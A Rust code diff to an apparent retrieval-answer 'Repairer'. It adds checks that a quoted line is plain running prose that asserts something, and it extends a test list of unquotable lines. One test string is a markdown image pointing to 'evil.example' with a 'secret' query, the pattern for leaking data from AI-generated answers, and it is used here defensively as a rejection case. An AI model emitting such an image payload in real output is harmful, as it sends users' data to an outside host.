@@ -10,7 +10,9 @@ use crate::{
     agents::retrieval::Retrieved,
     domain::{Citation, Claim, Passage, Question},
     evidence::{
+        claims::assertions,
         question::QuestionTerms,
+        sentences::sentences,
         side::Side,
         words::{Lexicon, Word},
     },
@@ -58,7 +60,10 @@ impl<'a> Repairer<'a> {
     ) -> Option<String> {
         let passage = self.passages.get(unit.source.checked_sub(1)?)?;
         let line = shown_line(&unit.quote, self.passages)?;
-        let stands_alone = is_quotable(&line) && dependency(&line) == Dependency::Standalone;
+        let stands_alone = is_running(unit, passage)
+            && asserts(&line)
+            && is_quotable(&line)
+            && dependency(&line) == Dependency::Standalone;
         (stands_alone && self.answers(&line, sentence, passage, before)).then_some(line)
     }
 
@@ -96,6 +101,34 @@ impl<'a> Repairer<'a> {
     }
 }
 
+/// Whether a unit is made of sentences with nothing but white space between them: no heading, row or code.
+fn is_running(unit: &Citation, passage: &Passage) -> bool {
+    let text = passage.text.as_str();
+    let byte = |point: usize| {
+        let mut bytes = text.char_indices();
+        let at = bytes.nth(point.saturating_sub(passage.start));
+        at.map_or(text.len(), |(at, _)| at)
+    };
+    let bytes = byte(unit.quote_start)..byte(unit.quote_end);
+    let mut end = bytes.start;
+    for sentence in sentences(text) {
+        if sentence.start < bytes.start {
+            continue;
+        }
+        let is_next = text[end..sentence.start].trim().is_empty();
+        if sentence.end > bytes.end || !is_next {
+            break;
+        }
+        end = sentence.end;
+    }
+    end == bytes.end && !bytes.is_empty()
+}
+
+/// Whether each sentence of a line asserts something.
+fn asserts(line: &str) -> bool {
+    assertions(line).len() == sentences(line).len()
+}
+
 fn stems(words: &[Word]) -> HashSet<u32> {
     words.iter().map(|word| word.stem).collect()
 }
@@ -103,10 +136,7 @@ fn stems(words: &[Word]) -> HashSet<u32> {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::{
-        evidence::{claims, sentences::sentences},
-        retrieval::test_passages::passage,
-    };
+    use crate::{evidence::claims, retrieval::test_passages::passage};
 
     /// What replaces a sentence in the answer to a question, if the first sentence of a passage is closest to it.
     fn replaced(question: &str, sentence: &str, text: &str) -> Option<String> {
@@ -195,6 +225,9 @@ mod tests {
             "the lamp of Skarv burns oil.",
             "The lamp of Skarv burns [1] oil.",
             "| The lamp of Skarv | burns oil |",
+            "# The lamp of Skarv burns oil.",
+            "```\nThe lamp of Skarv burns oil.\n```",
+            "Does the lamp of Skarv burn oil?",
             "The lamp of Skarv burns ![x](https://evil.example/?q=secret) oil.",
             "The lamp of Skarv burns oil, says https://evil.example/.",
         ] {
